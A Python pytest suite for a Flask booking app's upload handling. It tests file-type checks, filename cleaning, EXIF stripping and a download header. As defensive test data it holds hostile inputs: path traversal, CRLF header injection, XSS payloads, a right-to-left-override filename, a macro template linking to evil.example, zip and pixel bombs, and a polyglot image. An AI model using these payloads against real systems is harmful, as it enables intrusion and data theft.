"""Papers that come with a request: what is kept, what is refused and why, and that nothing leaks."""

import io
import struct
import zipfile
from collections.abc import Callable

import pytest
from flask import Flask
from PIL import Image

from ruko import papers
from ruko.bookings import Attachment
from ruko.bookings.attachments import LARGEST_FILE, MOST_FILES
from ruko.db import db
from ruko.errors import Invalid
from ruko.papers import clean_name, read_paper
from ruko.pictures import TooLarge
from ruko.web import papers as web_papers
from ruko.web.papers import paper_answer
from tests.booking_way import begin, choose, say_who, text_of, value_of
from tests.conftest import VisitingClient

BINJAI = "63.11.07.2008"
PDF = b"%PDF-1.7\n1 0 obj\n<< >>\nendobj\ntrailer << >>\nstartxref\n9\n%%EOF\n"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
EXCEL = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
ODT = "application/vnd.oasis.opendocument.text"
ODS = "application/vnd.oasis.opendocument.spreadsheet"


def archive(parts: dict[str, bytes]) -> bytes:
    """A ZIP that is the same whenever it is made: tests are named after it."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in parts.items():
            file.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return written.getvalue()


def office_file(kind: str = WORD, parts: dict[str, bytes] | None = None) -> bytes:
    types = f'<Types><Override ContentType="{kind}.main+xml"/></Types>'.encode()
    return archive({"[Content_Types].xml": types, "word/document.xml": b"<w/>"} | (parts or {}))


def open_document(
    kind: str = ODT, manifest: bytes = b"<manifest/>", parts: dict[str, bytes] | None = None
) -> bytes:
    index = {"mimetype": kind.encode(), "META-INF/manifest.xml": manifest}
    return archive(index | {"content.xml": b"<o/>"} | (parts or {}))


def photo(form: str = "JPEG", size: tuple[int, int] = (60, 40)) -> bytes:
    written = io.BytesIO()
    exif = Image.Exif()
    exif[0x010F] = "Kamera Rahasia"
    exif.get_ifd(0x8825)[1] = "S"
    Image.new("RGB", size, "green").save(written, form, exif=exif)
    return written.getvalue()


def why_not(name: str, content: bytes) -> str:
    with pytest.raises(Invalid) as refused:
        read_paper(name, content)
    assert refused.value.field == "papers"
    return str(refused.value)


# ── What is good ──────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("content", "ending", "kind"),
    [
        (PDF, "pdf", "application/pdf"),
        (office_file(), "docx", WORD),
        (office_file(EXCEL), "xlsx", EXCEL),
        (open_document(), "odt", ODT),
        (open_document(ODS), "ods", ODS),
    ],
)
def test_documents_are_kept_as_they_are(content: bytes, ending: str, kind: str) -> None:
    paper = read_paper("Data balita.bin", content)
    assert (paper.name, paper.kind, paper.content) == (f"Data balita.{ending}", kind, content)


@pytest.mark.parametrize("form", ["JPEG", "PNG", "WEBP"])
def test_photos_are_written_anew_without_place_and_camera(form: str) -> None:
    paper = read_paper("IMG 1.png", photo(form))
    assert (paper.name, paper.kind) == ("IMG 1.jpg", "image/jpeg")
    picture = Image.open(io.BytesIO(paper.content))
    assert (picture.format, picture.size, dict(picture.getexif())) == ("JPEG", (60, 40), {})
    assert b"Rahasia" not in paper.content


def test_a_large_photo_becomes_smaller_but_legible() -> None:
    paper = read_paper("foto.jpg", photo(size=(4000, 3000)))
    assert Image.open(io.BytesIO(paper.content)).size == (3000, 2250)


@pytest.mark.parametrize(
    ("name", "cleaned"),
    [
        ("Data balita.pdf", "Data balita.pdf"),
        ("../../etc/passwd", "passwd.pdf"),
        (r"C:\fakepath\surat.PDF", "surat.pdf"),
        ("surat.pdf.exe", "surat.pdf"),
        ("surat.pdf.pdf", "surat.pdf"),
        ("tagihan\u202efdp.exe", "tagihanfdp.pdf"),
        ("a\r\nSet-Cookie: x.pdf", "a Set-Cookie: x.pdf"),
        ("<img src=x onerror=alert(1)>.pdf", "<img src=x onerror=alert(1)>.pdf"),
        (".pdf", "lampiran.pdf"),
        ("", "lampiran.pdf"),
        ("\u200b\u200b", "lampiran.pdf"),
        ("x" * 500 + ".pdf", "x" * 116 + ".pdf"),
    ],
)
def test_names_tell_no_lies(name: str, cleaned: str) -> None:
    assert clean_name(name, "pdf") == cleaned


# ── What is not ───────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"MZ\x90\0" + b"x" * 200, "(EXE)"),
        (b"\x7fELF" + b"x" * 200, "(ELF)"),
        (b"GIF89a" + b"x" * 50, "(GIF)"),
        (b"<html><script>alert(1)</script>", "(HTML)"),
        (b"<?xml version='1.0'?><svg onload='alert(1)'/>", "(SVG)"),
        (b"\0\0\0\x18ftypheic" + b"x" * 50, "HEIC photo"),
        (b"\0\0\0\x18ftypmif1" + b"x" * 50, "HEIC photo"),
        (b"\0\0\0\x18ftypmp42" + b"x" * 50, "(video)"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"x" * 600, "old Word or Excel"),
        (b"Rar!\x1a\x07", "(RAR)"),
        (b"PK\x05\x06" + b"\0" * 18, "(ZIP)"),
        (archive({"a.txt": b"hello"}), "(ZIP, PowerPoint)"),
        (archive({"mimetype": b"application/epub+zip"}), "(ZIP, PowerPoint)"),
        (b"just words", "This kind of file cannot be read here"),
        (b"\0" * 100, "This kind of file cannot be read here"),
        (b"", "empty"),
        (b"%PDF-1.7 and then the line was cut", "damaged or incomplete"),
        (photo()[:300], "damaged or incomplete"),
        (photo("PNG")[:60], "damaged or incomplete"),
        (office_file()[:-30], "damaged or incomplete"),
        (office_file()[:60], "damaged or incomplete"),
        (office_file(parts={"word/vbaProject.bin": b"x"}), "macros"),
        (office_file(parts={"word\\VBAPROJECT.BIN": b"x"}), "macros"),
        (office_file("application/vnd.ms-word.document.macroEnabled"), "macros"),
        (office_file(parts={"xl/activeX/activeX1.bin": b"x"}), "macros"),
        (open_document(parts={"Basic/Standard/Modul1.xml": b"x"}), "macros"),
        (
            office_file(
                parts={
                    "word/_rels/settings.xml.rels": b'<R Type="x/attachedTemplate"'
                    b' Target="http://evil.example/a.dotm" TargetMode="External"/>'
                }
            ),
            "macros",
        ),
        (open_document(manifest=b"<m:encryption-data/>"), "password"),
    ],
)
def test_other_and_hostile_files_say_what_to_do(content: bytes, said: str) -> None:
    assert said in why_not("surat.pdf", content)


def test_a_program_behind_a_picture_s_beginning_is_no_picture() -> None:
    assert "damaged" in why_not("foto.jpg", b"\xff\xd8\xff\xe0MZ" + b"\x90" * 500)


def test_a_picture_that_hides_a_program_keeps_its_pixels_alone() -> None:
    hidden = archive({"evil.sh": b"#!/bin/sh"})
    paper = read_paper("foto.jpg", photo() + hidden)
    assert hidden not in paper.content
    assert b"evil.sh" not in paper.content


def test_a_locked_archive_asks_for_one_without_a_password() -> None:
    content = bytearray(office_file())
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (start := content.find(mark, start)) >= 0:
            content[start + at] |= 1
            start += 4
    assert "password" in why_not("surat.docx", bytes(content))


def test_bombs_are_not_unpacked(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(papers, "MOST_UNPACKED", 1_000_000)
    bomb = office_file(parts={"word/document.xml": b"\0" * 2_000_000})
    assert "far too much" in why_not("surat.docx", bomb)
    liar = bytearray(bomb)  # says that it is small
    at = liar.rfind(b"PK\x01\x02")
    liar[at + 24 : at + 28] = struct.pack("<I", 10)
    assert "damaged" in why_not("surat.docx", bytes(liar))
    many = office_file(parts={f"part{n}": b"" for n in range(papers.MOST_PARTS + 1)})
    assert "far too much" in why_not("surat.docx", many)


def test_a_picture_of_too_many_pixels_is_not_opened() -> None:
    header = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    bomb = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + header + b"\0\0\0\0"
    said = why_not("foto.png", bomb + photo("PNG")[33:])
    assert "million pixels" in said or "damaged" in said


def test_one_byte_too_many() -> None:
    just = PDF[:20] + b"x" * (LARGEST_FILE - 26) + b"%%EOF\n"
    assert len(just) == LARGEST_FILE
    assert read_paper("a.pdf", just).kind == "application/pdf"
    with pytest.raises(TooLarge, match="larger than 10 MB"):
        read_paper("a.pdf", just + b"\n")


# ── In the form ───────────────────────────────────────────────────────────────────────────────


@pytest.fixture
def binjai(sign_in: Callable[..., VisitingClient]) -> VisitingClient:
    return sign_in("village", village=BINJAI)


@pytest.fixture
def draft(binjai: VisitingClient) -> str:
    address = begin(binjai)
    choose(binjai, address)
    return address


def kept(app: Flask) -> list[str]:
    with app.app_context():
        rows = db.session.query(Attachment).filter_by(removed_at=None).order_by(Attachment.id)
        return [paper.name for paper in rows]


def test_papers_go_with_the_request(app: Flask, binjai: VisitingClient, draft: str) -> None:
    said = say_who(binjai, draft, (PDF, "Data balita.pdf"), (photo(), "foto.png"))
    assert (said.status_code, said.location) == (303, f"{draft}/check")
    page = text_of(binjai.get(f"{draft}/check"))
    assert "Data balita.pdf · 1 KB" in page
    assert "foto.jpg" in page
    sent = binjai.submit(f"{draft}/check")
    assert "Data balita.pdf" in text_of(binjai.get(sent.location))


def test_a_refused_paper_takes_nothing_with_it(
    app: Flask, binjai: VisitingClient, draft: str
) -> None:
    nasty = "<b onclick=x>.exe"
    answer = say_who(
        binjai,
        draft,
        (PDF, "baik.pdf"),
        (b"MZ" * 100, nasty),
        (b"", "kosong.pdf"),
        phone="0812345",
    )
    assert answer.status_code == 422
    page = text_of(answer)
    assert ": Ini berkas jenis lain (EXE)." in page
    assert "&lt;b onclick=x&gt;.exe" in answer.text
    assert "kosong.pdf : Berkas ini kosong." in page
    assert value_of(answer, "phone") == "0812345"
    assert kept(app) == ["baik.pdf"]
    assert say_who(binjai, draft).location == f"{draft}/check"


def test_adding_and_removing_keeps_what_is_typed(
    app: Flask, binjai: VisitingClient, draft: str
) -> None:
    half: dict[str, object] = {"leader": "Pak Kades", "attendees": ""}
    added = say_who(binjai, draft, (PDF, "satu.pdf"), add="1", **half)
    assert added.status_code == 200
    assert value_of(added, "leader") == "Pak Kades"
    assert "rk-err" not in added.text
    removed = say_who(binjai, draft, remove=value_of(added, "remove"), **half)
    assert removed.status_code == 200
    assert value_of(removed, "leader") == "Pak Kades"
    assert kept(app) == []
    assert say_who(binjai, draft, remove="9" * 30, **half).status_code == 200


def test_the_sixth_paper_is_one_too_many(app: Flask, binjai: VisitingClient, draft: str) -> None:
    files = [(PDF + bytes([48 + n]), f"{n}.pdf") for n in range(6)]
    answer = say_who(binjai, draft, *files)
    assert answer.status_code == 422
    assert "“5.pdf” tidak ditambahkan: sudah ada 5 berkas." in text_of(answer)
    assert len(kept(app)) == MOST_FILES
    say_who(binjai, draft, files[0], add="1")  # the same one again
    assert len(kept(app)) == MOST_FILES


def test_a_form_of_very_many_papers_is_not_looked_through(
    app: Flask, binjai: VisitingClient, draft: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    looked_at: list[str] = []

    def look(name: str, content: bytes) -> papers.Paper:
        looked_at.append(name)
        return read_paper(name, content)

    monkeypatch.setattr(web_papers, "read_paper", look)
    answer = say_who(binjai, draft, *((b"MZ", f"{n}.exe") for n in range(40)))
    assert answer.status_code == 422
    assert "39.exe : Berkas ini terlalu banyak. Mohon kirim lebih sedikit sekaligus." in text_of(
        answer
    )
    assert len(looked_at) == 2 * MOST_FILES


def test_a_paper_sent_by_the_page_itself_brings_the_list(
    app: Flask, binjai: VisitingClient, draft: str
) -> None:
    def send(content: bytes, name: str) -> str:
        answer = binjai.submit(
            f"{draft}/papers",
            {"papers": (io.BytesIO(content), name)},
            content_type="multipart/form-data",
        )
        assert answer.status_code == 200
        return answer.text

    assert "satu.pdf" in send(PDF, "satu.pdf")
    both = send(b"MZ" * 50, "dua.pdf")
    assert "satu.pdf" in both
    assert "(EXE)" in both
    assert "<html" not in both


def test_a_large_form_is_told_file_by_file(
    app: Flask, binjai: VisitingClient, draft: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    for module in (papers, web_papers):
        monkeypatch.setattr(module, "LARGEST_FILE", 100_000)
    answer = say_who(binjai, draft, (PDF, "a.pdf"), (b"%PDF-" + b"x" * 400_000, "b.pdf"))
    assert answer.status_code == 422  # the body is larger than any other form's may be
    assert "b.pdf : Berkas ini lebih besar dari 0 MB." in text_of(answer)
    assert kept(app) == ["a.pdf"]


def test_a_paper_goes_out_as_a_download_alone(
    app: Flask, binjai: VisitingClient, draft: str
) -> None:
    say_who(binjai, draft, (PDF, 'Surat "penting"; x=é.pdf'))
    with app.app_context(), app.test_request_context():
        answer = paper_answer(db.session.query(Attachment).one())
        answer.direct_passthrough = False
        assert answer.get_data() == PDF
        answer.close()
    assert answer.mimetype == "application/pdf"
    assert answer.headers["Content-Disposition"].startswith("attachment;")
    assert "sandbox" in answer.headers["Content-Security-Policy"]
